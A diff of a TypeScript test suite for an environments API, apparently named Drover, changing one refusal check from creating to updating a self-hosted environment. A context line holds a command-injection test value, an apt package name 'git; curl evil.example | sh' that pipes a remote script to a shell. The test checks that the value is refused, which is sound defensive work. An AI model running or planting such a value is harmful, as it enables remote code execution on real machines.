@@ -141,8 +141,10 @@ describe('environments', () => {
   });
 
   it('refuses in words what Drover cannot do, and stores nothing', async () => {
+    // self_hosted is made (work.integration.test.ts); changing a cloud environment to it is not.
+    const cloud = await rig.client.beta.environments.create({ name: 'c' });
     const before = rig.managed.list('environment').length;
-    expect(await refused(rig.client.beta.environments.create({ name: 'sh', config: { type: 'self_hosted' } }))).toContain('self_hosted');
+    expect(await refused(rig.client.beta.environments.update(cloud.id, { config: { type: 'self_hosted' } }))).toContain('self_hosted');
     expect(
       await refused(
         rig.client.beta.environments.create({ name: 'inj', config: { type: 'cloud', packages: { apt: ['git; curl evil.example | sh'] } } }),
